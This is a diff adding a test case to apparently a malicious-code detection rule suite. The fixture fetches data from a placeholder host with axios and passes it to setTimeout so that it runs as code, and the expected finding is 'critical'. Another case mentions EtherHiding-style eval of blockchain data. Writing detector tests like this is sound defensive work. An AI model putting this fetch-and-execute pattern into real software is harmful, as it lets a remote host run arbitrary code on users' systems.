@@ -91,6 +91,12 @@ ruleTest(rule, {
       ],
     },
     {
+      name: 'setTimeout given a destructured property of the response',
+      file: 'index.js',
+      code: "const axios = require('axios');\naxios.get('https://cfg.example.invalid/t').then(({ data }) => setTimeout(data, 10));\n",
+      findings: [{ line: 2, severity: 'critical', message: /setTimeout runs code from the response of axios\.get/ }],
+    },
+    {
       name: 'EtherHiding: web3 contract.methods.get().call() result decoded and evaled',
       file: 'server.js',
       code: [
